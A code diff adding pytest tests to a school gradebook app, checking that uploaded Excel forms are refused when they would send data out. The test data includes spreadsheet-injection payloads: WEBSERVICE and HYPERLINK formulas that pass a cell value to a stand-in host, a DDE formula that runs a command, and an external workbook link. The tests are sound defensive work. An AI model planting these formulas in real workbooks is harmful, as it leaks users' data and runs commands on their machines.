@@ -7,7 +7,11 @@ import io
 import openpyxl
 import pytest
 import xlsxwriter
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.packaging.relationship import Relationship
 from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.workbook.external_link import ExternalLink
+from openpyxl.workbook.external_link.external import ExternalBook
 
 from dashboards.printing.own_form import own_form_xlsx
 from ingest.own_forms import shelf
@@ -85,6 +89,29 @@ def test_a_place_that_is_too_small_is_told_in_a_sentence(desk_of):
     assert (refused.value.facts["places"], refused.value.facts["rows"]) == (3, 10)
 
 
+def test_the_page_fills_a_form_or_says_why_not(open_filled, desk_of, filled_school):
+    desk_of("p-dir")
+    shelf.keep(filled_school, drawn_form(vedomost_class="$A$1"), "а.xlsx")
+    shelf.keep(filled_school, drawn_form(vedomost_students="$A$5:$A$7"), "б.xlsx")
+    app = open_filled("forms", "p-mat")
+
+    app.button(key="own_form_fill").click().run()
+
+    labels = [one.proto.label for one in app.get("download_button")]
+    assert "Заполненная форма (XLSX)" in labels
+    with filled_school.database.reading() as cursor:
+        told = cursor.execute(
+            "select action, scope from access.log where place = 'forms'"
+        ).fetchall()
+    assert told == [("exported", "5А")]
+
+    app.selectbox(key="own_form").select("б").run()
+    app.button(key="own_form_fill").click().run()
+
+    assert "vedomost_students" in app.error[0].value
+    assert not app.exception
+
+
 def test_names_that_mean_nothing_are_told_when_the_form_comes(filled_school):
     form = drawn_form(vedomost_class="$A$1", vedomost_colour="$A$2", other="$A$3")
 
@@ -146,6 +173,58 @@ def test_the_form_to_begin_with_is_a_form_that_can_be_kept_and_filled(
     sheet = filled(desk_of("p-dir"), starter)
     values = {cell.value for row in sheet.iter_rows() for cell in row}
     assert {"5А", "I четверть", "Школа № 17"} <= values
+
+
+@pytest.mark.parametrize(
+    ("formula", "what"),
+    [
+        ('=_xlfn.WEBSERVICE("https://x.example/?"&A5)', "WEBSERVICE"),
+        ('=hyperlink("https://x.example/?"&A5,"Печать")', "hyperlink"),
+        ("=cmd|'/c calc'!A0", "DDE"),
+    ],
+)
+def test_a_form_that_would_carry_figures_out_is_refused(filled_school, formula, what):
+    in_a_cell, in_a_name, in_a_format = (
+        openpyxl.Workbook(),
+        *(openpyxl.load_workbook(io.BytesIO(FORM)) for _ in range(2)),
+    )
+    in_a_cell.active["C7"] = formula
+    in_a_name.defined_names["far"] = DefinedName("far", attr_text=formula[1:])
+    in_a_format.active.conditional_formatting.add(
+        "A1", FormulaRule(formula=[formula[1:]])
+    )
+    for book in (in_a_cell, in_a_name, in_a_format):
+        made = io.BytesIO()
+        book.save(made)
+
+        with pytest.raises(VedomostError) as refused:
+            shelf.keep(filled_school, made.getvalue(), "форма.xlsx")
+
+        assert refused.value.facts == {"what": what}
+    assert shelf.titles(filled_school) == []
+
+
+def test_a_form_with_links_to_other_workbooks_is_refused(filled_school):
+    book = openpyxl.load_workbook(io.BytesIO(FORM))
+    link = ExternalLink(ExternalBook(id="rId1"))
+    link.file_link = Relationship(
+        type="externalLinkPath", Target="http://x.example/a.xlsx", TargetMode="External"
+    )
+    book._external_links.append(link)
+    made = io.BytesIO()
+    book.save(made)
+
+    with pytest.raises(VedomostError, match="links to other workbooks"):
+        shelf.keep(filled_school, made.getvalue(), "форма.xlsx")
+
+
+def test_words_in_a_text_of_a_formula_call_nobody(filled_school):
+    book = openpyxl.load_workbook(io.BytesIO(FORM))
+    book.active["C7"] = '=IF(A5="a|b","IMAGE(1)","")'
+    made = io.BytesIO()
+    book.save(made)
+
+    assert shelf.keep(filled_school, made.getvalue(), "форма.xlsx").unknown == []
 
 
 def test_a_formula_of_the_form_is_never_written_over(desk_of):
